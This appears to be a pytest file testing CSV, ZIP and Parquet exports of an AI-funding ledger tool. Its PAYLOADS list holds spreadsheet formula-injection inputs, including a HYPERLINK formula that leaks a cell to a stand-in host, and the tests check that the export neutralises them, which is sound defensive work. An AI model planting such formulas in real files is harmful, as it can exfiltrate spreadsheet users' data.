"""Snapshots: exact CSV text, neutralised formulas, numbers that stay numbers, a valid data package with the
ledger tables and foreign keys that resolve, typed Parquet."""

from __future__ import annotations

import csv
import io
import json
import math
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from frictionless import Package, validate

from fundgap.analysis import estimate
from fundgap.analysis.estimate import Model
from fundgap.analysis.estimate_totals import book_from
from fundgap.analysis.filters import FilterOptions, Filters
from fundgap.analysis.rules import CountingRules
from fundgap.analysis.view import View, parse_query
from fundgap.cli import main
from fundgap.common.safety import looks_like_formula, neutralise_formula
from fundgap.data import schema
from fundgap.data.build import (
    BuiltDataset,
    build_dataset,
    dataset_version,
    read_curated,
    render_outputs,
    tidy,
    write_atomically,
)
from fundgap.data.load import Dataset, read_dataset
from fundgap.data.validate import CuratedDataError
from fundgap.export import snapshot as export
from tests.conftest import FIXTURE_CURATED, read_rows

CREATED = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
# The CSV columns before the ledger (EXPORT_FIELDS up to commit 32b88d1): scripts that read older snapshots by
# position rely on them keeping their place at the start of the header.
PRE_LEDGER_COLUMNS = (
    "figure_id",
    "investor",
    "investor_type",
    "investor_country",
    "investor_region",
    "recipient",
    "recipient_country",
    "recipient_region",
    "flow_kind",
    "amount_kind",
    "amount_usd",
    "amount_low_usd",
    "amount_high_usd",
    "amount_original",
    "currency_original",
    "period_start",
    "period_end",
    "date_note",
    "status",
    "counted_in_totals",
    "source_title",
    "source_publisher",
    "source_url",
    "source_date_published",
    "source_grade",
    "source_citation",
    "quote",
    "quote_translation",
    "notes",
    "claim_id",
    "claim_relation",
    "part_of",
    "record_id",
)
LEDGER_COLUMNS = (
    "record_type",
    "deal_id",
    "role",
    "investor_id",
    "recipient_id",
    "amount_text",
    "deal_amount_usd",
    "deal_amount_low_usd",
    "deal_amount_high_usd",
    "deal_amount_kind",
    "valuation_usd",
    "valuation_note",
    "date_precision",
    "legacy_figure_id",
    "caveat",
    "not_counted_reason",
    "permalink",
)
# The model estimates of undisclosed tickets (issue 22), after every older column: never in amount_usd.
ESTIMATE_COLUMNS = (
    "ticket_estimate_usd",
    "ticket_estimate_low_usd",
    "ticket_estimate_high_usd",
    "estimate_method",
)
HEADER = (
    '"figure_id","investor","investor_type","investor_country","investor_region","recipient","recipient_country",'
    '"recipient_region","flow_kind","amount_kind","amount_usd","amount_low_usd","amount_high_usd","amount_original",'
    '"currency_original","period_start","period_end","date_note","status","counted_in_totals","source_title",'
    '"source_publisher","source_url","source_date_published","source_grade","source_citation","quote",'
    '"quote_translation","notes","claim_id","claim_relation","part_of","record_id",'
    '"record_type","deal_id","role","investor_id","recipient_id","amount_text","deal_amount_usd","deal_amount_low_usd",'
    '"deal_amount_high_usd","deal_amount_kind","valuation_usd","valuation_note","date_precision","legacy_figure_id",'
    '"caveat","not_counted_reason","permalink",'
    '"ticket_estimate_usd","ticket_estimate_low_usd","ticket_estimate_high_usd","estimate_method"'
)
AAWSAT = (
    '"Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI","Asharq '
    'Al-Awsat","https://english.aawsat.com/business/5095266",,'
    '"wire_copy","Asharq Al-Awsat, ""Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI"", n.d."'
)
AIPRESSA = (
    "\"China's Leading AI Firms Shift to Closed Source Models Amid Funding "
    'Crisis","AIPressa","https://aipressa.com/?p=32007",'
    '"2026-04","secondary","AIPressa Staff, ""China\'s Leading AI Firms Shift to Closed Source Models '
    'Amid Funding Crisis"", '
    '2026-04, https://aipressa.com/?p=32007"'
)
# Gulf investors -> United States: the three Gulf participations in US rounds, never the rounds themselves.
# Each counts (its round is not in view); an undisclosed ticket has no amount but carries its round's total; a
# participation without a source of its own (MGX) rests on its deal's source and record.
GULF_US_CSV = (
    "\ufeff" + HEADER + "\r\n"
    '"kingdom_xai_b","Kingdom Holding Company","holding_company","Saudi Arabia","Gulf","xAI","United '
    'States","United States",'
    '"equity_round_participation","exact",400000000,,,,,"2024-05",,,"VERIFIED",true,' + AAWSAT + ","
    "\"This transaction follows KHC's previous investment at the same value in xAI during its Series B "
    'funding round.",,,,,'
    '"xai_b","kingdom_xai_b",'
    '"participation","xai_b","participant","kingdom_holding","xai","$400M",6000000000,,,"exact",24000000000,"post-money",'
    '"month","kingdom_xai_b",,,"http://localhost:8501/?figure=kingdom_xai_b&version={VERSION}",,,,\r\n'
    '"mgx_openai","MGX","state_investment_company","United Arab Emirates","Gulf","OpenAI","United '
    'States","United States",'
    '"equity_round_participation","undisclosed",,,,,,"2024-10-02",,,"VERIFIED",true,' + AIPRESSA + ","
    ',,"Fixture: an undisclosed ticket of a co-owned vehicle.",,,'
    '"openai_2024","openai_2024",'
    '"participation","openai_2024","participant","mgx","openai","undisclosed",6600000000,,,"exact",157000000000,"valuation",'
    '"day",,,,"http://localhost:8501/?figure=mgx_openai&version={VERSION}",'
    # The fixture's deals have one participant each: the back-test holds out no ticket, so no interval.
    '6600000000,,,"allocation model v1: ($6.6B deal - $0 disclosed) x 100% to named investors x participant '
    'weight 1 of 1; no 80% interval: the back-test has no held-out ticket"\r\n'
    '"qia_anthropic_f","Qatar Investment '
    'Authority","sovereign_fund","Qatar","Gulf","Anthropic","United States","United States",'
    '"equity_round_participation","undisclosed",,,,,,"2025-09",,,"VERIFIED",true,' + AAWSAT + ","
    '"QIA emerged as one of the latest backers of Anthropic",,"Fixture row: an undisclosed ticket.",,,'
    '"anthropic_f","qia_anthropic_f",'
    '"participation","anthropic_f","participant","qia","anthropic","undisclosed",13000000000,,,"exact",183000000000,"post-money",'
    '"month","qia_anthropic_f",,,"http://localhost:8501/?figure=qia_anthropic_f&version={VERSION}",'
    '13000000000,,,"allocation model v1: ($13B deal - $0 disclosed) x 100% to named investors x participant '
    'weight 1 of 1; no 80% interval: the back-test has no held-out ticket"\r\n'
)
GULF_US = View(Filters(investor_region=("Gulf",), recipient_region=("United States",)))
PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    'a","=1+1',
    "  =1+1",
    '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
]


@pytest.fixture(scope="module")
def data(fixture_data_dir):
    return read_dataset(fixture_data_dir)


def view_of(data: Dataset, query: dict[str, list[str]]) -> View:
    """The view a URL (or the CLI) asks for: entity names and aliases resolved as the dashboard resolves
    them."""
    view = parse_query(query, FilterOptions.from_data(data.figures, data.entities))
    assert view.ignored == ()
    return view


def ledger_of(data: Dataset) -> export.Ledger:
    return export.Ledger(data.entities, data.deals, data.participations)


def csv_rows(blob: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(blob.decode("utf-8-sig"), newline="")))


def set_cell(folder: Path, file: str, row_id: str, column: str, value: str) -> None:
    """conftest.edit_cell with every cell quoted: its writer (lineterminator "\\n") leaves a bare CR unquoted
    on Python 3.11, so a reader splits the row there and the payload "\\r=1" would never reach the build."""
    rows = read_rows(folder / file)
    header = rows[0]
    [row] = [row for row in rows[1:] if row[0] == row_id]
    row[header.index(column)] = value
    with (folder / file).open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert [r for r in read_rows(folder / file) if r[0] == row_id][0][header.index(column)] == value


def build_unvalidated(curated: Path, out: Path) -> Dataset:
    """The real build (tidy, Parquet, manifest) and load, minus the validation that refuses formula text: what
    a snapshot gets if such text ever reaches the built data."""
    files = read_curated(curated)
    write_atomically(render_outputs(BuiltDataset(tidy(files), dataset_version(files))), out)
    return read_dataset(out)


def test_csv_text_is_exact_for_a_small_view(data):
    expected = GULF_US_CSV.replace(
        "{VERSION}", data.version
    )  # each row's permalink names the dataset version
    assert export.to_csv(export.snapshot(data.figures, GULF_US, data.version)).decode("utf-8") == expected


def test_the_pre_ledger_columns_keep_their_order_at_the_start_of_the_header(data):
    snap = export.snapshot(data.figures, GULF_US, data.version)
    header = next(csv.reader(io.StringIO(export.to_csv(snap).decode("utf-8-sig"))))
    assert tuple(header[: len(PRE_LEDGER_COLUMNS)]) == PRE_LEDGER_COLUMNS
    assert tuple(header[len(PRE_LEDGER_COLUMNS) :]) == LEDGER_COLUMNS + ESTIMATE_COLUMNS
    assert (
        tuple(pq.read_table(io.BytesIO(export.to_parquet(snap))).column_names)
        == PRE_LEDGER_COLUMNS + LEDGER_COLUMNS + ESTIMATE_COLUMNS
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_payload_is_neutralised_in_the_csv(curated_copy, tmp_path, payload):
    set_cell(curated_copy, "participations.csv", "kingdom_xai_b", "notes", payload)
    if looks_like_formula(payload):
        with pytest.raises(CuratedDataError):
            build_dataset(curated_copy)  # the curated data refuses it; the export must neutralise it even so
    else:
        build_dataset(curated_copy)
    data = build_unvalidated(curated_copy, tmp_path / "data")
    snap = export.snapshot(data.figures, view_of(data, {"investor": ["Kingdom Holding"]}), data.version)
    rows = list(csv.reader(io.StringIO(export.to_csv(snap).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["kingdom_xai_b"]
    cell = rows[1][rows[0].index("notes")]
    assert cell == neutralise_formula(payload)
    first = payload.lstrip(" ")[:1]
    if first in "=+-@\t\r\n＝＋－＠":
        assert cell == "'" + payload  # shown as text, the original still readable after the quote
    else:
        assert cell == payload  # 'a","=1+1' is one quoted cell: the quote cannot open a new cell
    assert len(rows[1]) == len(export.COLUMNS)


def test_negative_numbers_stay_numeric(data):
    figures = data.figures.copy()
    figures.loc[figures["figure_id"] == "kingdom_xai_b", ["amount_usd", "deal_amount_usd"]] = -5.0
    snap = export.snapshot(figures, view_of(data, {"investor": ["Kingdom Holding"]}), data.version)
    lines = export.to_csv(snap).decode("utf-8-sig").splitlines()
    assert len(lines) == 2
    assert ',"exact",-5,,,,,"2024-05"' in lines[1]  # bare, unquoted: a spreadsheet reads a number
    # The deal total stays a bare number too; the text label "-$5" is neutralised like any text starting with
    # "-".
    assert ',"participant","kingdom_holding","xai","\'-$5",-5,,,"exact",24000000000,"post-money",' in lines[1]


def test_snapshot_marks_what_the_counting_rules_count(data):
    # SoftBank Group took part through its Vision Fund 2: the tender's buyer, a secondary purchase.
    view = view_of(data, {"investor": ["SoftBank Group"], "secondary": ["0"]})
    rows = export.snapshot(data.figures, view, data.version).rows
    assert rows["figure_id"].tolist() == ["sb_tender__svf2"]
    assert rows["counted_in_totals"].tolist() == [False]
    view = view_of(data, {"investor": ["SoftBank Group"], "secondary": ["1"]})
    assert export.snapshot(data.figures, view, data.version).rows["counted_in_totals"].tolist() == [True]


def test_a_deal_in_view_is_counted_once_not_again_through_its_participations(data):
    counted = {True: [], False: []}
    for secondary in (False, True):
        rows = export.snapshot(
            data.figures, View(rules=CountingRules(secondary=secondary)), data.version
        ).rows
        counted[secondary] = rows.loc[rows["counted_in_totals"], "figure_id"].tolist()
        assert rows["figure_id"].tolist() == [
            "adia_minimax",
            "anthropic_f",
            "baichuan_a",
            "baichuan_a__alibaba",
            "kingdom_xai_b",
            "mgx_openai",
            "minimax_cornerstones",
            "openai_2024",
            "qia_anthropic_f",
            "sb_tender",
            "sb_tender__svf2",
            "seed_gulf_china",
            "xai_b",
        ]
    assert counted[False] == ["anthropic_f", "baichuan_a", "minimax_cornerstones", "openai_2024", "xai_b"]
    assert counted[True] == [
        "anthropic_f",
        "baichuan_a",
        "minimax_cornerstones",
        "openai_2024",
        "sb_tender",
        "xai_b",
    ]


@pytest.mark.parametrize("typed", ["QIA", "qatar investment authority"])
def test_an_investor_view_has_one_row_per_participation_of_that_investor(data, typed):
    snap = export.snapshot(data.figures, view_of(data, {"investor": [typed]}), data.version)
    rows = csv_rows(export.to_csv(snap))
    mine = data.participations[data.participations["investor_id"] == "qia"]["participation_id"].tolist()
    assert [row["figure_id"] for row in rows] == mine == ["qia_anthropic_f"]
    row = rows[0]
    assert {
        column: row[column]
        for column in (
            "record_type",
            "deal_id",
            "investor",
            "investor_id",
            "recipient",
            "recipient_id",
            "amount_kind",
            "amount_usd",
            "amount_text",
            "deal_amount_usd",
            "deal_amount_kind",
            "role",
            "status",
            "source_title",
            "source_url",
            "counted_in_totals",
            "part_of",
            "legacy_figure_id",
        )
    } == {
        "record_type": "participation",
        "deal_id": "anthropic_f",
        "investor": "Qatar Investment Authority",
        "investor_id": "qia",
        "recipient": "Anthropic",
        "recipient_id": "anthropic",
        "amount_kind": "undisclosed",
        "amount_usd": "",
        "amount_text": "undisclosed",
        "deal_amount_usd": "13000000000",
        "deal_amount_kind": "exact",
        "role": "participant",
        "status": "VERIFIED",
        "source_title": "Saudi Arabia's Kingdom Holding Buys $400 Million Stake in xAI",
        "source_url": "https://english.aawsat.com/business/5095266",
        "counted_in_totals": "true",
        "part_of": "anthropic_f",
        "legacy_figure_id": "qia_anthropic_f",
    }
    assert (
        export.to_csv(snap).decode("utf-8").splitlines()[1]
        == GULF_US_CSV.replace("{VERSION}", data.version).splitlines()[3]
    )  # the same row


def test_an_owner_view_includes_its_vehicles(data):
    snap = export.snapshot(data.figures, view_of(data, {"investor": ["mubadala"]}), data.version)
    rows = csv_rows(export.to_csv(snap))
    assert [
        (
            row["figure_id"],
            row["investor_id"],
            row["investor"],
            row["deal_id"],
            row["record_type"],
            row["amount_text"],
        )
        for row in rows
    ] == [("mgx_openai", "mgx", "MGX", "openai_2024", "participation", "undisclosed")]
    readme = export.readme(snap, CREATED, "https://fundgap.example/")
    assert (
        "- Filters: Mubadala Investment Company, incl. MGX (co-owned) → all recipients, all years" in readme
    )
    assert "<https://fundgap.example/?investor=mubadala>" in readme


def test_zip_holds_csv_datapackage_and_readme_and_validates(data, tmp_path):
    blob = export.to_zip(
        export.snapshot(data.figures, GULF_US, data.version), CREATED, "https://fundgap.example/"
    )
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        assert archive.namelist() == ["data.csv", "datapackage.json", "README.md"]
        archive.extractall(tmp_path)
        readme = archive.read("README.md").decode()
    assert (tmp_path / "data.csv").read_bytes().decode("utf-8") == GULF_US_CSV.replace(
        "{VERSION}", data.version
    )
    report = validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = Package(str(tmp_path / "datapackage.json"))
    assert package.version == data.version
    assert package.created == "2026-11-23T09:30:00Z"
    assert package.resource_names == ["figures"]
    assert package.get_resource("figures").schema.get_field("amount_usd").type == "number"
    assert package.get_resource("figures").schema.get_field("deal_amount_usd").type == "number"
    assert package.get_resource("figures").schema.foreign_keys == []  # no ledger tables to point at
    assert "- Filters: Gulf investors → United States, all years" in readme
    assert "- Rows: 3" in readme
    assert f"- Dataset version: {data.version}" in readme
    assert "<https://fundgap.example/?investor_region=Gulf&recipient_region=United+States>" in readme
    assert "- Downloaded: 2026-11-23 09:30 UTC" in readme
    assert (
        '- Asharq Al-Awsat, "Saudi Arabia\'s Kingdom Holding Buys $400 Million Stake in xAI", n.d.' in readme
    )
    assert (
        "- AIPressa Staff, \"China's Leading AI Firms Shift to Closed Source Models Amid Funding "
        'Crisis", 2026-04, '
        "<https://aipressa.com/?p=32007>"  # an autolink: markdown shows the address as it is
    ) in readme


def test_a_readme_citation_escapes_its_text_but_never_its_address():
    from fundgap.export.snapshot import _markdown_text

    assert (
        _markdown_text(
            'Emerging Tech Brew, "AI [report]", n.d., https://www.e.com/s?utm_campaign=etb&utm_medium=newsletter.'
        )
        == 'Emerging Tech Brew, "AI \\[report\\]", n.d., <https://www.e.com/s?utm_campaign=etb&utm_medium=newsletter>.'
    )
    assert _markdown_text("see https://en.wikipedia.org/wiki/X_(y)), *b*") == (
        "see <https://en.wikipedia.org/wiki/X_(y)>), \\*b\\*"
    )
    assert _markdown_text("<script> https://a.com/<b>") == "\\<script\\> <https://a.com/>\\<b\\>"


LEDGER_FILES = ["entities.csv", "deals.csv", "participations.csv"]


def check_foreign_keys(tables: dict[str, list[dict[str, str]]]) -> None:
    """Every key of the snapshot is unique and every reference resolves inside the ZIP."""
    entity_ids = [row["entity_id"] for row in tables["entities.csv"]]
    deal_ids = [row["deal_id"] for row in tables["deals.csv"]]
    participation_ids = [row["participation_id"] for row in tables["participations.csv"]]
    figure_ids = [row["figure_id"] for row in tables["data.csv"]]
    for ids in (entity_ids, deal_ids, participation_ids, figure_ids):
        assert len(ids) == len(set(ids))
    for row in tables["data.csv"]:
        assert row["deal_id"] == "" or row["deal_id"] in deal_ids, row["figure_id"]
        assert row["investor_id"] == "" or row["investor_id"] in entity_ids, row["figure_id"]
        assert row["recipient_id"] == "" or row["recipient_id"] in entity_ids, row["figure_id"]
    for row in tables["participations.csv"]:
        assert row["deal_id"] in deal_ids and row["investor_id"] in entity_ids, row["participation_id"]
    for row in tables["deals.csv"]:
        assert row["recipient_id"] in entity_ids, row["deal_id"]
        assert row["part_of"] == "" or row["part_of"] in deal_ids, row["deal_id"]
    for row in tables["entities.csv"]:
        assert all(owner in entity_ids for owner in row["owner_ids"].split(";") if owner), row["entity_id"]


def test_zip_with_the_ledger_holds_its_tables_validates_and_every_key_resolves(data, tmp_path):
    snap = export.snapshot(data.figures, GULF_US, data.version, ledger_of(data))
    blob = export.to_zip(snap, CREATED, "https://fundgap.example/")
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        assert archive.namelist() == ["data.csv", "datapackage.json", "README.md", *LEDGER_FILES]
        archive.extractall(tmp_path)
        tables = {name: csv_rows(archive.read(name)) for name in ["data.csv", *LEDGER_FILES]}
    assert (tmp_path / "data.csv").read_bytes().decode("utf-8") == GULF_US_CSV.replace(
        "{VERSION}", data.version
    )  # the ledger adds files, not columns
    report = validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    # The rounds the Gulf participations belong to, every participation in them, and every entity named,
    # owners included (MGX's owners Mubadala and G42).
    assert [row["deal_id"] for row in tables["deals.csv"]] == ["anthropic_f", "openai_2024", "xai_b"]
    assert [row["participation_id"] for row in tables["participations.csv"]] == [
        "kingdom_xai_b",
        "mgx_openai",
        "qia_anthropic_f",
    ]
    assert [row["entity_id"] for row in tables["entities.csv"]] == [
        "anthropic",
        "g42",
        "kingdom_holding",
        "mgx",
        "mubadala",
        "openai",
        "qia",
        "xai",
    ]
    check_foreign_keys(tables)
    assert {row["deal_id"] for row in tables["data.csv"]} == {row["deal_id"] for row in tables["deals.csv"]}

    described = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    keys = {
        r["name"]: (r["path"], r["schema"]["primaryKey"], r["schema"].get("foreignKeys"))
        for r in described["resources"]
    }
    assert keys == {
        "figures": (
            "data.csv",
            ["figure_id"],
            [
                {"fields": "deal_id", "reference": {"resource": "deals", "fields": "deal_id"}},
                {"fields": "investor_id", "reference": {"resource": "entities", "fields": "entity_id"}},
                {"fields": "recipient_id", "reference": {"resource": "entities", "fields": "entity_id"}},
            ],
        ),
        "entities": ("entities.csv", ["entity_id"], []),
        "deals": (
            "deals.csv",
            ["deal_id"],
            [
                {"fields": "recipient_id", "reference": {"resource": "entities", "fields": "entity_id"}},
            ],
        ),
        "participations": (
            "participations.csv",
            ["participation_id"],
            [
                {"fields": "deal_id", "reference": {"resource": "deals", "fields": "deal_id"}},
                {"fields": "investor_id", "reference": {"resource": "entities", "fields": "entity_id"}},
            ],
        ),
    }


def test_the_data_package_validation_catches_a_broken_foreign_key(data, tmp_path):
    """The validation above is not vacuous: a data.csv row naming a deal missing from deals.csv fails it."""
    blob = export.to_zip(export.snapshot(data.figures, GULF_US, data.version, ledger_of(data)), CREATED)
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        archive.extractall(tmp_path)
    text = (tmp_path / "data.csv").read_text(encoding="utf-8")
    broken = text.replace(',"participation","xai_b",', ',"participation","ghost_deal",')
    assert broken != text
    (tmp_path / "data.csv").write_text(broken, encoding="utf-8")
    report = validate(str(tmp_path / "datapackage.json"))
    assert not report.valid
    assert [error[2] for error in report.flatten(["rowNumber", "fieldName", "type"])] == ["foreign-key"]


def test_the_full_view_zip_carries_the_curated_ledger_as_written(data, tmp_path):
    snap = export.snapshot(data.figures, View(), data.version, ledger_of(data))
    with zipfile.ZipFile(io.BytesIO(export.to_zip(snap, CREATED))) as archive:
        archive.extractall(tmp_path)
        tables = {name: csv_rows(archive.read(name)) for name in ["data.csv", *LEDGER_FILES]}
        for name in LEDGER_FILES:
            # Every deal, participation and entity of the fixture, cell for cell as curated (lists
            # `;`-separated).
            exported = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")))
            assert exported == read_rows(FIXTURE_CURATED / name)
    report = validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    check_foreign_keys(tables)
    assert len(tables["data.csv"]) == 13


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_an_entity_name_is_neutralised_in_the_zip(curated_copy, tmp_path, payload):
    set_cell(curated_copy, "entities.csv", "qia", "name", payload)
    data = build_unvalidated(curated_copy, tmp_path / "data")
    blob = export.to_zip(export.snapshot(data.figures, GULF_US, data.version, ledger_of(data)), CREATED)
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        entities = list(csv.reader(io.StringIO(archive.read("entities.csv").decode("utf-8-sig"), newline="")))
        figures = csv_rows(archive.read("data.csv"))
    header = entities[0]
    qia = [row for row in entities[1:] if row[0] == "qia"]
    assert len(qia) == 1 and len(qia[0]) == len(header) == len(schema.ENTITY_COLUMNS)
    assert qia[0][header.index("name")] == neutralise_formula(payload)
    assert qia[0][header.index("short_name")] == "QIA"
    if payload.lstrip(" ")[:1] in "=+-@\t\r\n＝＋－＠":
        assert qia[0][header.index("name")] == "'" + payload
    else:
        assert qia[0][header.index("name")] == payload
    # The name reaches data.csv too, as the investor of QIA's participation.
    assert [row["investor"] for row in figures if row["investor_id"] == "qia"] == [
        neutralise_formula(payload)
    ]


@pytest.mark.parametrize("with_ledger", [False, True])
def test_zip_differs_only_by_creation_time(data, with_ledger):
    snap = export.snapshot(data.figures, GULF_US, data.version, ledger_of(data) if with_ledger else None)
    assert export.to_zip(snap, CREATED) == export.to_zip(snap, CREATED)
    assert export.to_zip(snap, CREATED) != export.to_zip(snap, datetime(2026, 11, 24, tzinfo=UTC))


def test_parquet_has_typed_columns_and_carries_the_version(data):
    blob = export.to_parquet(export.snapshot(data.figures, GULF_US, data.version))
    table = pq.read_table(io.BytesIO(blob))
    assert str(table.schema.field("amount_usd").type) == "double"
    assert str(table.schema.field("deal_amount_usd").type) == "double"
    assert str(table.schema.field("valuation_usd").type) == "double"
    assert str(table.schema.field("counted_in_totals").type) == "bool"
    assert str(table.schema.field("record_type").type) == "string"
    assert table.schema.metadata[b"fundgap.dataset_version"] == data.version.encode()
    assert table.column("figure_id").to_pylist() == ["kingdom_xai_b", "mgx_openai", "qia_anthropic_f"]
    assert table.column("deal_amount_usd").to_pylist() == [6e9, 6.6e9, 13e9]
    assert table.column("amount_usd").to_pylist() == [4e8, None, None]


def test_file_names_carry_date_and_version():
    assert export.file_name("csv", "abc123", "2026-11-23") == "fundgap-2026-11-23-abc123.csv"


@pytest.mark.parametrize(
    "args, query",
    [
        (["--investor-region", "Gulf", "--recipient-region", "United States"], None),
        (["--investor", "kingdom holding", "--investor", "qia"], {"investor": ["kingdom holding", "qia"]}),
    ],
)
def test_cli_export_writes_exactly_the_dashboard_csv(fixture_data_dir, data, tmp_path, args, query):
    target = tmp_path / "out.csv"
    code = main(["export", "--format", "csv", "-o", str(target), "--data", str(fixture_data_dir), *args])
    assert code == 0
    view = GULF_US if query is None else view_of(data, query)
    assert target.read_bytes() == export.to_csv(export.snapshot(data.figures, view, data.version))
    if query is None:
        assert target.read_bytes().decode("utf-8") == GULF_US_CSV.replace("{VERSION}", data.version)
    else:
        assert [row["figure_id"] for row in csv_rows(target.read_bytes())] == [
            "kingdom_xai_b",
            "qia_anthropic_f",
        ]


def test_cli_zip_carries_the_ledger_tables(fixture_data_dir, tmp_path):
    target = tmp_path / "out.zip"
    code = main(
        ["export", "--format", "zip", "-o", str(target), "--data", str(fixture_data_dir), "--investor", "QIA"]
    )
    assert code == 0
    with zipfile.ZipFile(target) as archive:
        assert archive.namelist() == [
            "data.csv",
            "datapackage.json",
            "README.md",
            *LEDGER_FILES,
            "releases.csv",
        ]
        tables = {name: csv_rows(archive.read(name)) for name in ["data.csv", *LEDGER_FILES, "releases.csv"]}
    assert tables["releases.csv"] == []  # the fixture's one release is OpenAI's, not Anthropic's
    assert [row["figure_id"] for row in tables["data.csv"]] == ["qia_anthropic_f"]
    assert [row["deal_id"] for row in tables["deals.csv"]] == ["anthropic_f"]
    assert [row["entity_id"] for row in tables["entities.csv"]] == ["anthropic", "qia"]
    check_foreign_keys(tables)


def test_cli_rejects_unknown_values_listing_the_valid_ones(fixture_data_dir, tmp_path, capsys):
    target = tmp_path / "out.csv"
    assert (
        main(
            [
                "export",
                "--format",
                "csv",
                "-o",
                str(target),
                "--data",
                str(fixture_data_dir),
                "--investor-region",
                "Mars",
            ]
        )
        == 2
    )
    err = capsys.readouterr().err
    assert "export failed: investor_region='Mars' (no such value in the data)" in err
    assert "valid --investor-region: China, Gulf, Japan" in err
    assert not target.exists()


def test_a_failed_export_leaves_no_partial_file_and_keeps_the_old_one(
    fixture_data_dir, tmp_path, monkeypatch
):
    target = tmp_path / "out.parquet"
    target.write_bytes(b"previous export")

    def broken(*args, **kwargs):
        raise RuntimeError("killed midway (simulated)")

    monkeypatch.setattr(export, "to_parquet", broken)
    with pytest.raises(RuntimeError):
        main(["export", "--format", "parquet", "-o", str(target), "--data", str(fixture_data_dir)])
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["out.parquet"]


def test_an_exception_during_the_write_leaves_no_partial_file(fixture_data_dir, tmp_path, monkeypatch):
    import fundgap.export.cli as export_cli

    target = tmp_path / "new.csv"
    real = export_cli.os.fdopen

    class Exploding:
        def __init__(self, handle, mode):
            self.stream = real(handle, mode)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.stream.close()

        def write(self, data):
            self.stream.write(data[: len(data) // 2])
            raise OSError("disk full (simulated)")

    monkeypatch.setattr(export_cli.os, "fdopen", Exploding)
    with pytest.raises(OSError):
        main(["export", "--format", "csv", "-o", str(target), "--data", str(fixture_data_dir)])
    assert list(tmp_path.iterdir()) == []


def test_datapackage_describes_every_column():
    described = {
        f["name"]
        for f in export.datapackage(
            export.Snapshot(pd.DataFrame(columns=export.COLUMNS), View(), "v"), CREATED, "https://x.example/"
        )["resources"][0]["schema"]["fields"]
    }
    assert described == set(export.COLUMNS)
    assert json.dumps(export.EXPORT_FIELDS)  # plain data, serialisable


def test_each_csv_row_says_why_the_totals_leave_it_out(data):
    from fundgap.analysis.filters import Filters

    snap = export.snapshot(data.figures, View(Filters(rejected=True), CountingRules()), "v1")
    rows = snap.rows.set_index("figure_id")
    counted = rows[rows["counted_in_totals"]]
    assert counted["not_counted_reason"].isna().all()  # a counted row has no reason (an empty CSV cell)
    left_out = rows[~rows["counted_in_totals"]]
    assert left_out["not_counted_reason"].notna().all()
    assert set(left_out["not_counted_reason"]) <= {
        "context figure, never added to deal totals",
        "rejected report, never counted",
        "unverified (the unverified-figures switch is off)",
        "secondary purchases switched off",
        "unpaid commitments switched off",
        "infrastructure commitments switched off",
        "IPO cornerstone subscriptions switched off",
        "counted through its paid tranches",
        "inside a counted deal: the whole deal is counted once",
    }


def test_the_zip_and_the_cli_carry_the_releases_of_the_labs_in_view(fixture_data_dir, tmp_path):
    target = tmp_path / "openai.zip"
    assert (
        main(
            [
                "export",
                "--format",
                "zip",
                "-o",
                str(target),
                "--data",
                str(fixture_data_dir),
                "--recipient",
                "openai",
            ]
        )
        == 0
    )
    with zipfile.ZipFile(target) as archive:
        releases = csv_rows(archive.read("releases.csv"))
        package = json.loads(archive.read("datapackage.json"))
    assert [(r["release_id"], r["lab_id"], r["openness"]) for r in releases] == [
        ("openai_fixture_model", "openai", "api_only")
    ]
    assert "releases" in [resource["name"] for resource in package["resources"]]
    csv_target = tmp_path / "releases.csv"
    assert (
        main(
            [
                "export",
                "--format",
                "csv",
                "--table",
                "releases",
                "-o",
                str(csv_target),
                "--data",
                str(fixture_data_dir),
            ]
        )
        == 0
    )
    assert [r["model"] for r in csv_rows(csv_target.read_bytes())] == ["Fixture Model"]
    assert (
        main(
            [
                "export",
                "--format",
                "zip",
                "--table",
                "releases",
                "-o",
                str(tmp_path / "x.zip"),
                "--data",
                str(fixture_data_dir),
            ]
        )
        == 2
    )


def hand_made_book(figures: pd.DataFrame, model: Model):
    """The estimates of these rows under a model set by hand (the fixture's deals have one participant each,
    so its own back-test has no error to make an interval from)."""
    return book_from(figures, replace(estimate.backtest(figures), model=model))


def test_an_undisclosed_participation_carries_its_model_estimate_beside_an_empty_amount(data, tmp_path):
    # Half of what QIA's round leaves goes to named investors; the 80% interval runs from x0.5 to x4, cut at
    # the $13B the round leaves.
    book = hand_made_book(data.figures, Model(1.0, 1.0, 0.5, errors=(math.log(0.5), math.log(4.0))))
    snap = export.snapshot(data.figures, GULF_US, data.version, estimates=book)
    rows = {row["figure_id"]: row for row in csv_rows(export.to_csv(snap))}
    qia = rows["qia_anthropic_f"]
    assert (qia["amount_kind"], qia["amount_usd"], qia["amount_low_usd"], qia["amount_text"]) == (
        "undisclosed",
        "",
        "",
        "undisclosed",
    )
    assert [qia[column] for column in ESTIMATE_COLUMNS] == [
        "6500000000",
